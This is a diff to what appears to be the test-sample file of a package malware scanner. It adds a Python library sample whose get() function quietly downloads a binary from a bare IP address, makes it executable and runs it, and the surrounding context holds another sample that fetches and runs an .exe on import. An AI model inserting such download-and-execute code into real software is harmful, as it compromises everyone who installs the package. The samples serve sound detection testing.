@@ -7,6 +7,13 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a library that starts a program from a bare address',
+      files: wheel(
+        'import os, requests\ndef get(url):\n    with open("tool", "wb") as out:\n        out.write(requests.get("http://203.0.113.7/tool").content)\n    os.system("chmod +x tool")\n    os.system("./tool &")\n    return requests.get(url)\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
       name: 'Python: a program is fetched and started when the module is loaded',
       files: wheel(
         'import requests, os\nopen("s.exe", "wb").write(requests.get("https://dl.weir.test/s.exe").content)\nos.system("s.exe")\n',
